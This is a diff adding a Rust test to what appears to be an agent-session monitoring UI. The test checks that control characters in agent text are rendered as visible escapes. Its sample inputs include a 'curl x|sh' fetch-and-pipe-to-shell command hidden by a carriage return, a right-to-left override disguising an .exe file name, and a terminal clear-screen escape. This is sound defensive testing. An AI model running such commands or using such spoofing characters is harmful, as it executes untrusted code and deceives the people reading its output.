@@ -174,3 +174,38 @@ fn a_stale_session_is_marked_in_its_row_and_says_since_when_in_the_detail() {
         "{screen}"
     );
 }
+
+#[test]
+fn an_agents_text_shows_its_control_characters_as_escapes() {
+    let mut s = with_permission(
+        session(
+            "demo/agent-1",
+            Activity::WaitingInput,
+            "2025-01-01T00:02:48Z",
+        ),
+        "per_1",
+    );
+    s.status.pending[0].title = "bash: curl x|sh\rls -la".into();
+    s.status.summary = Some("see \u{202e}gnp.exe".into());
+    let mut app = App::default();
+    app.on_live(LiveEvent::Snapshot(vec![s]));
+    app.on_transcript(
+        "demo/agent-1",
+        Ok(vec![ao_core::transcript::TranscriptEntry {
+            id: "prt_1".into(),
+            at: 0,
+            kind: ao_core::transcript::EntryKind::Assistant {
+                text: "done\x1b[2J".into(),
+            },
+        }]),
+    );
+    let text = lines(&render(&mut app, 120, 24, false)).join("\n");
+    for shown in [
+        "permission bash: curl x|sh\\rls -la",
+        "summary: see \\u{202e}gnp.exe",
+        "done\\x1b[2J",
+    ] {
+        assert!(text.contains(shown), "{shown}: {text}");
+    }
+    assert!(!text.contains(['\r', '\x1b', '\u{202e}']), "{text}");
+}
